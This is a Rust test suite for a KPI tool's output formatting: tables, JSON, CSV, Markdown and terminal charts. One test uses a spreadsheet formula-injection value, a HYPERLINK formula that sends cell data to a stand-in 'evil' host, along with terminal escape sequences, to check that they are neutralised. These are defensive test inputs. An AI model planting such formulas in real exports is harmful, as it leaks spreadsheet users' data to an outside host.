//! Whole outputs, as they stand on a screen or in a file.

use jauge_domain::{Answer, Calendar, Decimal, Grain, Language, NoValue, Period, Unit, Value, Weekday};

use crate::{Column, Format, Heading, Label, Sheet, Style, Wording, write_answers, write_sheet};

fn style(format: Format) -> Style {
    let calendar = Calendar::new("Europe/Paris", Weekday::Monday, (1, 1)).unwrap();
    let titles = [("shop.revenue", "Revenue"), ("shop.orders", "Orders"), ("shop.buyers_share", "Buyers")];
    Style {
        currency: Some("EUR".to_owned()),
        titles: titles.map(|(id, title)| (id.to_owned(), title.to_owned())).into(),
        ..Style::new(format, calendar)
    }
}

fn french(format: Format) -> Style {
    Style { language: Language::Fr, ..style(format) }
}

fn money(digits: i128) -> Value {
    Value::Decimal(Decimal { digits, scale: 4 })
}

fn text(text: &str) -> Value {
    Value::Text(text.to_owned())
}

/// An answer about `period`, complete and compared with nothing.
fn answer(kpi: &str, unit: Unit, period: &str, value: Value) -> Answer {
    let span = style(Format::Table).calendar.span(&period.parse::<Period>().unwrap()).unwrap();
    Answer {
        currency: (unit == Unit::Money).then(|| "EUR".to_owned()),
        start: Some(span.start),
        end: Some(span.end),
        n: Value::Int(3),
        ..Answer::bare(kpi, unit, value)
    }
}

/// Two months, the second compared, incomplete, and without a share.
fn months() -> Vec<Answer> {
    let revenue = |period, digits| answer("shop.revenue", Unit::Money, period, money(digits));
    let share = |period, value| answer("shop.buyers_share", Unit::Ratio, period, value);
    let mut all = vec![
        revenue("2026-02", 106_445_604_240),
        revenue("2026-03", 12_345_678),
        share("2026-02", Value::Float(0.024)),
        share("2026-03", Value::Null),
    ];
    all[1].change = Value::Float(0.123);
    all[1].complete = false;
    all[3].why = Some(NoValue::NoRows);
    all
}

fn written(answers: &[Answer], style: &Style) -> String {
    let mut out = Vec::new();
    write_answers(&mut out, answers, style).unwrap();
    // A narrow no-break space cannot be told from others in a test.
    String::from_utf8(out).unwrap().replace('\u{202f}', "_")
}

fn sheet(sheet: &Sheet, style: &Style) -> String {
    let mut out = Vec::new();
    write_sheet(&mut out, sheet, style).unwrap();
    String::from_utf8(out).unwrap()
}

#[test]
fn json_has_every_key_every_digit_and_the_zone() {
    let mut all = months();
    all[0].by = vec![("channel".to_owned(), text("a \"b\"")), ("new".to_owned(), Value::Bool(true))];
    all[0].numerator = Value::Decimal(Decimal { digits: 170_141_183_460_469_231_731_687_303, scale: 10 });
    let expected = r#"[
  {"kpi": "shop.revenue", "unit": "money", "currency": "EUR", "start": "2026-02-01T00:00:00+01:00", "end": "2026-03-01T00:00:00+01:00", "complete": true, "cut": false, "by": {"channel": "a \"b\"", "new": true}, "value": 10644560.4240, "numerator": 17014118346046923.1731687303, "denominator": null, "n": 3, "compare": null, "change": null, "noise": null},
  {"kpi": "shop.buyers_share", "unit": "ratio", "currency": null, "start": "2026-03-01T00:00:00+01:00", "end": "2026-04-01T00:00:00+02:00", "complete": true, "cut": false, "by": {}, "value": null, "numerator": null, "denominator": null, "n": 3, "compare": null, "change": null, "noise": null, "why": "no rows in this period"}
]
"#;
    let two = [all[0].clone(), all[3].clone()];
    assert_eq!(written(&two, &french(Format::Json)), expected);
    let lines: String = expected
        .lines()
        .filter(|line| line.len() > 1)
        .map(|line| line.trim().trim_end_matches(','))
        .fold(String::new(), |lines, line| lines + line + "\n");
    assert_eq!(written(&two, &style(Format::Ndjson)), lines);
    assert_eq!(written(&[], &style(Format::Json)), "[]\n");
}

#[test]
fn json_reads_back() {
    let all = [0.1 + 0.2, 1e300, -1e-9, 5.0, f64::NAN].map(Value::Float);
    let sheet_of =
        Sheet { columns: vec![Column::number("x", None)], rows: all.iter().map(|x| vec![x.clone()]).collect() };
    let read: serde_json::Value = serde_json::from_str(&sheet(&sheet_of, &style(Format::Json))).unwrap();
    let back: Vec<Option<f64>> = read.as_array().unwrap().iter().map(|row| row["x"].as_f64()).collect();
    assert_eq!(back, [Some(0.1 + 0.2), Some(1e300), Some(-1e-9), Some(5.0), None]);
}

#[test]
fn kpis_over_time_stand_side_by_side() {
    let months = months();
    assert_eq!(
        written(&months, &Style { grain: Some(Grain::Month), ..style(Format::Table) }),
        "\
Month                Revenue   Change  Buyers  Change
2026-02    10,644,560.42 EUR        –  2.40 %       –
2026-03 *       1,234.57 EUR  +12.3 %       –       –

* not complete
Buyers: no rows in this period
"
    );
    assert_eq!(
        written(&months, &Style { grain: Some(Grain::Month), ..french(Format::Table) }),
        "\
Mois               Revenue  Évolution  Buyers  Évolution
02/2026    10_644_560,42_€          –  2,40_%          –
03/2026 *       1_234,57_€    +12,3_%       –          –

* incomplet
Buyers : aucune ligne dans cette période
"
    );
}

#[test]
fn csv_keeps_plain_numbers_and_ids() {
    let months = months();
    assert_eq!(
        written(&months, &Style { grain: Some(Grain::Month), ..style(Format::Csv) }),
        "month,shop.revenue,shop.revenue change,shop.buyers_share,shop.buyers_share change,currency,complete,cut\n\
         2026-02,10644560.4240,,0.024,,EUR,true,false\n\
         2026-03,1234.5678,0.123,,,EUR,false,false\n"
    );
    assert_eq!(
        written(&months[..1], &french(Format::Csv)),
        "from;to;shop.revenue;currency;complete\n01/02/2026;28/02/2026;10644560,4240;EUR;true\n"
    );
}

#[test]
fn an_amount_has_its_own_currency_in_every_format() {
    let yen = |kpi| {
        let answer = answer(kpi, Unit::Money, "2026-01", money(17_000_000));
        Answer { currency: Some("JPY".to_owned()), by: vec![("currency".to_owned(), text("JPY"))], ..answer }
    };
    let none = Answer { value: Value::Null, currency: None, ..yen("shop.spend") };
    assert!(written(&[yen("shop.revenue")], &style(Format::Table)).contains("1,700 JPY"));
    assert!(
        written(&[yen("shop.revenue")], &style(Format::Json)).contains("\"unit\": \"money\", \"currency\": \"JPY\"")
    );
    assert_eq!(
        written(&[yen("shop.revenue"), none], &style(Format::Csv)),
        "from,to,currency,shop.revenue,shop.spend,shop.revenue currency,shop.spend currency,complete\n\
         2026-01-01,2026-01-31,JPY,1700.0000,,JPY,,true\n"
    );
}

#[test]
fn without_buckets_and_groups_there_is_one_row_a_kpi() {
    let mut answers = vec![
        answer("shop.orders", Unit::Count, "2026-01", Value::Int(1412)),
        answer("shop.buyers_share", Unit::Ratio, "2026-01", Value::Float(0.0312)),
    ];
    answers[0].compare = Value::Int(1388);
    answers[0].change = Value::Float(-0.0173);
    answers.iter_mut().for_each(|answer| answer.complete = false);
    assert_eq!(
        written(&answers, &style(Format::Md)),
        "\
| KPI    | 2026-01-01 – 2026-01-31 | Before | Change |
| ------ | ----------------------: | -----: | -----: |
| Orders |                   1,412 |  1,388 | -1.7 % |
| Buyers |                  3.12 % |      – |      – |

not complete
"
    );
}

#[test]
fn kpis_about_other_days_than_most_say_so_under_the_table() {
    let of = |kpi: &str, period| answer(kpi, Unit::Count, period, Value::Int(7));
    let answers = [of("month", "2026-01-30"), of("shop.orders", "2026-01"), of("shop.revenue", "2026-01")];
    let expected = "\
KPI      2026-01-01 – 2026-01-31
month                          7
Orders                         7
Revenue                        7

month: 2026-01-30
";
    assert_eq!(written(&answers, &style(Format::Table)), expected);
    assert!(written(&answers, &french(Format::Table)).ends_with("\nmonth : 30/01/2026\n"));
    // A group is one row all the same, and a total stands below all groups.
    let by = |answer: Answer, value: &str| Answer { by: vec![("channel".to_owned(), text(value))], ..answer };
    let total = Answer { total: true, ..of("shop.orders", "2026-01") };
    let grouped = [
        by(of("shop.orders", "2026-01"), "ads"),
        total,
        by(of("month", "2025"), "ads"),
        by(of("month", "2025"), "mail"),
    ];
    let expected = "\
channel  Orders  month
ads           7      7
mail          –      7
Total         7      –

2026-01-01 – 2026-01-31
month: 2025-01-01 – 2025-12-31
";
    assert_eq!(written(&grouped, &style(Format::Table)), expected);
}

#[test]
fn rows_are_in_the_order_of_time() {
    let of = |kpi, period| answer(kpi, Unit::Count, period, Value::Int(7));
    let answers = [of("shop.orders", "2026-02"), of("shop.revenue", "2026-01"), of("shop.revenue", "2026-02")];
    assert_eq!(
        written(&answers, &Style { grain: Some(Grain::Month), ..style(Format::Csv) }),
        "month,shop.orders,shop.revenue,complete,cut\n2026-01,,7,true,false\n2026-02,7,7,true,false\n"
    );
}

#[test]
fn hours_are_said_where_it_is_not_whole_days() {
    let at = |text: &str| Some(text.parse().unwrap());
    let (start, end) = (at("2026-01-05T08:00:00Z"), at("2026-01-06T08:00:00Z"));
    let answers = [Answer { start, end, ..answer("shop.orders", Unit::Count, "2026-01", Value::Int(7)) }];
    assert!(written(&answers, &style(Format::Table)).starts_with("KPI     2026-01-05 09:00 – 2026-01-06 09:00\n"));
    assert!(written(&answers, &french(Format::Csv)).contains("\n05/01/2026 09:00;06/01/2026 09:00;7;true\n"));
}

#[test]
fn groups_have_their_total_and_text_keeps_to_its_line() {
    let by = |value: Value| vec![("channel".to_owned(), value)];
    let orders = |value| answer("shop.orders", Unit::Count, "2026-02", Value::Int(value));
    let answers = [
        Answer { by: by(text("a|b\n\u{1b}[31m")), ..orders(7) },
        Answer { by: by(Value::Null), ..orders(1) },
        Answer { total: true, complete: false, ..orders(8) },
    ];
    assert_eq!(
        written(&answers, &style(Format::Md)),
        "\
| channel             | Orders |
| ------------------- | -----: |
| a\\|b\\\\n\\\\u{1b}\\[31m |      7 |
| –                   |      1 |
| Total *             |      8 |

2026-02-01 – 2026-02-28

* not complete
"
    );
}

#[test]
fn csv_for_a_spreadsheet_has_no_formula_and_its_numbers_stay() {
    let sheet = Sheet {
        columns: vec![Column::text("=campaign"), Column::number("change", None)],
        rows: vec![
            vec![text("=HYPERLINK(\"http://evil\"&A1)"), Value::Int(-3)],
            vec![text("a\u{1b}[31m\nb"), Value::Decimal(Decimal { digits: -150, scale: 2 })],
        ],
    };
    let wrote = |style: &Style| {
        let mut out = Vec::new();
        write_sheet(&mut out, &sheet, style).unwrap();
        String::from_utf8(out).unwrap()
    };
    let csv = style(Format::Csv);
    let rest = "\"a\\u{1b}[31m\nb\",-1.50\n";
    assert_eq!(wrote(&csv), format!("=campaign,change\n\"=HYPERLINK(\"\"http://evil\"\"&A1)\",-3\n{rest}"));
    let safe = Style { safe_csv: true, ..csv };
    assert_eq!(wrote(&safe), format!("'=campaign,change\n\"'=HYPERLINK(\"\"http://evil\"\"&A1)\",-3\n{rest}"));
}

#[test]
fn on_a_terminal_one_kpi_over_time_is_drawn() {
    let orders = |period, value| answer("shop.orders", Unit::Count, period, value);
    let answers =
        [orders("2026-W01", Value::Int(20)), orders("2026-W02", Value::Int(5)), orders("2026-W03", Value::Null)];
    let style = Style { grain: Some(Grain::Week), terminal: true, ..french(Format::Table) };
    assert_eq!(
        written(&answers, &style),
        "\
┌──────────┬────────┬──────────────────────┐
│ Semaine  ┆ Orders ┆                      │
╞══════════╪════════╪══════════════════════╡
│ 2026-S01 ┆     20 ┆ ████████████████████ │
│ 2026-S02 ┆      5 ┆ █████                │
│ 2026-S03 ┆      – ┆                      │
└──────────┴────────┴──────────────────────┘
"
    );
    assert!(!written(&answers, &style).contains('\u{1b}'));
    assert!(written(&answers, &Style { color: true, ..style }).contains("\u{1b}[1m"));
}

#[test]
fn buckets_are_named_in_the_language() {
    let label = |period: &str, grain| {
        let answer = answer("shop.orders", Unit::Count, period, Value::Int(1));
        let style = Style { grain: Some(grain), ..french(Format::Csv) };
        written(&[answer], &style).lines().nth(1).unwrap().split(';').next().unwrap().to_owned()
    };
    assert_eq!(label("2026-06-30", Grain::Day), "30/06/2026");
    assert_eq!(label("2026-06-30", Grain::Hour), "30/06/2026 00:00");
    assert_eq!(label("2026-Q2", Grain::Quarter), "2026-T2");
    assert_eq!(label("2026", Grain::Year), "2026");
}

#[test]
fn a_sheet_keeps_what_it_was_given() {
    let columns =
        vec![Column::text("name"), Column::number("price", None), Column::number("time", Some(Unit::Duration))];
    let price = Value::Decimal(Decimal { digits: 12_990, scale: 4 });
    let rows = vec![vec![text("a;b, \"c\""), price, Value::Int(92)], vec![Value::Null, Value::Null, Value::Null]];
    let both = Sheet { columns, rows };
    assert_eq!(sheet(&both, &style(Format::Csv)), "name,price,time\n\"a;b, \"\"c\"\"\",1.2990,92\n,,\n");
    assert_eq!(sheet(&both, &french(Format::Csv)), "name;price;time\n\"a;b, \"\"c\"\"\";1,2990;92\n;;\n");
    assert_eq!(
        sheet(&both, &style(Format::Ndjson)),
        "{\"name\": \"a;b, \\\"c\\\"\", \"price\": 1.2990, \"time\": 92}\n{\"name\": null, \"price\": null, \"time\": null}\n"
    );
    assert_eq!(
        sheet(&both, &style(Format::Table)),
        "name       price    time\na;b, \"c\"  1.2990  1m 32s\n–              –       –\n"
    );
}

/// Programs find the same key in every language; people read a heading in theirs.
#[test]
fn a_heading_is_for_people() {
    let columns = vec![Column::number("rejected", None).headed(Label::Heading(Heading::Rejected))];
    let one = Sheet { columns, rows: vec![vec![Value::Int(2)]] };
    assert_eq!(sheet(&one, &french(Format::Ndjson)), "{\"rejected\": 2}\n");
    assert_eq!(sheet(&one, &french(Format::Csv)), "rejected\n2\n");
    assert_eq!(sheet(&one, &style(Format::Table)), "rejected\n       2\n");
    assert_eq!(sheet(&one, &french(Format::Table)), "rejetées\n       2\n");
}

#[test]
fn a_format_is_named_or_nearly() {
    assert_eq!("ndjson".parse(), Ok(Format::Ndjson));
    let message = |text: &str| Wording::default().message(&text.parse::<Format>().unwrap_err().message());
    assert_eq!(
        message("jsno"),
        "no format `jsno`: did you mean `json`? There are `table`, `json`, `ndjson`, `csv`, `md` or `list`"
    );
    assert_eq!(message("excel"), "no format `excel`: `table`, `json`, `ndjson`, `csv`, `md` or `list`");
}

/// A pipe that closes after a few bytes.
struct Closed;

impl std::io::Write for Closed {
    fn write(&mut self, _: &[u8]) -> std::io::Result<usize> {
        Err(std::io::ErrorKind::BrokenPipe.into())
    }

    fn flush(&mut self) -> std::io::Result<()> {
        Ok(())
    }
}

#[test]
fn a_closed_pipe_is_an_error_that_keeps_its_kind() {
    for format in Format::ALL {
        let error = write_answers(&mut Closed, &months(), &style(format)).unwrap_err();
        assert_eq!(error.kind(), std::io::ErrorKind::BrokenPipe, "{format:?}");
    }
}
